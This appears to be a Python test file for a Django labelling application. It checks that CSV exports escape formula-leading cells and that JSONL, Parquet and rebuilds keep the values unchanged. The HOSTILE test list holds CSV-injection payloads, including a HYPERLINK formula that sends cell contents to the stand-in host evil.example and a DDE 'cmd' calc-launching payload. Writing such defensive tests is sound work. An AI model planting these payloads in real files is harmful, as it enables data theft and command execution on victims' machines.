"""Every CSV the application writes escapes cells a spreadsheet would run as a formula.

Two writers: the audit disagreement download (Python's ``csv``) and a release's ``labels.csv``
(Arrow). Both apply ``labeling.release_format.csv_cell``: a string starting with ``=``, ``+``,
``-``, ``@``, a tab or a carriage return (after any ``'``) gets one more leading ``'``. The
files are fetched through real requests; the release's JSONL and Parquet keep the values as
they are, and a rebuild stays byte-identical.
"""

from __future__ import annotations

import csv
import io
import json
from typing import Any

import pyarrow.parquet as pq
import pytest
from django.test import TestCase

from certification.models import BuildStatus
from certification.services import audit_report_configure
from certification.services.releases import release_freeze, release_rebuild
from labeling.models import Evaluator, Role
from labeling.release_format import SCHEMA_VERSION, csv_cell, csv_cell_value
from tests.factories import calibration_candidate, calibration_project, calibration_record

pytestmark = pytest.mark.django_db

# One value per dangerous start, plus one already escaped by hand and two harmless ones.
HOSTILE = [
    '=HYPERLINK("https://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\tleading tab",
    "\rleading carriage return",
    "'=already quoted",
]
HARMLESS = ["plain text", "a = b"]


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1", "'=1"),
        ("+1", "'+1"),
        ("-1", "'-1"),
        ("@a", "'@a"),
        ("\ta", "'\ta"),
        ("\ra", "'\ra"),
        ("'=a", "''=a"),
        ("'a", "'a"),
        ("a=b", "a=b"),
        ("", ""),
        (-1.5, -1.5),
    ],
)
def test_csv_cell_escapes_formula_starts_and_is_undone_exactly(value, cell):
    assert csv_cell(value) == cell
    if isinstance(value, str):
        assert csv_cell_value(cell) == value


def _records(values: list[str]) -> list[dict[str, Any]]:
    """One question per value; its c0 is a judge disagreement (inadmissible vs admissible)."""
    records = []
    for n, value in enumerate(values):
        candidate = calibration_candidate("c0", answer=value, label="admissible")
        candidate["text"] = value
        candidate["generator"] = value
        candidate["evaluator_labels"] = [
            {"evaluator": "judge", "version": "v1", "label": "inadmissible"}
        ]
        record = calibration_record(f"{value}#{n}", [candidate])
        record["text"] = value
        records.append(record)
    return records


def test_the_audit_disagreements_csv_escapes_formula_cells(project, member, login):
    values = HOSTILE + HARMLESS
    project = calibration_project(project, {"test": _records(values)})
    judge = Evaluator.objects.get(project=project, name="judge")
    audit_report_configure(project=project, evaluator=judge, actor=member(Role.MANAGER))

    response = login("manager").get(
        f"/p/{project.slug}/certification/audits/{judge.pk}/disagreements.csv"
    )

    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.content.decode(), newline="")))
    assert rows[0] == ["item", "evaluator_label", "human_label", "kind", "adjudicator_rationale"]
    items = sorted(row[0] for row in rows[1:])
    expected = sorted(csv_cell(f"{value}#{n}/c0") for n, value in enumerate(values))
    assert items == expected
    escaped = [i for i in items if i.startswith("'")]
    assert len(escaped) == len(HOSTILE)
    assert sorted(csv_cell_value(i) for i in items) == sorted(
        f"{value}#{n}/c0" for n, value in enumerate(values)
    )


def _body(response: Any) -> bytes:
    return b"".join(response.streaming_content)


def test_a_release_csv_escapes_formula_cells_and_its_rebuild_is_byte_identical(
    project, member, api
):
    values = HOSTILE + HARMLESS
    project = calibration_project(project, {"test": _records(values)})
    manager = member(Role.MANAGER)
    with TestCase.captureOnCommitCallbacks(execute=True):
        release = release_freeze(project=project, actor=manager, version="1")
    client = api(Role.MANAGER)
    base = f"/api/projects/{project.slug}/releases/{release.pk}/files"

    csv_response = client.get(f"{base}/labels.csv")
    jsonl_response = client.get(f"{base}/labels.jsonl")
    manifest = json.loads(_body(client.get(f"{base}/manifest.json")))

    assert csv_response.status_code == 200
    assert manifest["schema_version"] == SCHEMA_VERSION == "1.4"
    rows = list(csv.DictReader(io.StringIO(_body(csv_response).decode(), newline="")))
    by_text = {csv_cell_value(row["question_text"]): row for row in rows}
    assert sorted(by_text) == sorted(values)
    for value in values:
        row = by_text[value]
        for column in ("question_text", "candidate_text", "generator"):
            assert row[column] == csv_cell(value), (column, value)
    # the JSONL (and the Parquet file) keep every value as it is
    texts = sorted(
        json.loads(line)["question"]["text"] for line in _body(jsonl_response).splitlines()
    )
    assert texts == sorted(values)
    parquet = pq.read_table(io.BytesIO(_body(client.get(f"{base}/labels.parquet"))))
    assert sorted(parquet.column("question_text").to_pylist()) == sorted(values)
    assert sorted(parquet.column("candidate_text").to_pylist()) == sorted(values)

    with TestCase.captureOnCommitCallbacks(execute=True):
        rebuild = release_rebuild(release=release, actor=manager)
    rebuild.refresh_from_db()
    assert rebuild.status == BuildStatus.DONE
    assert rebuild.matches is True, rebuild.mismatches
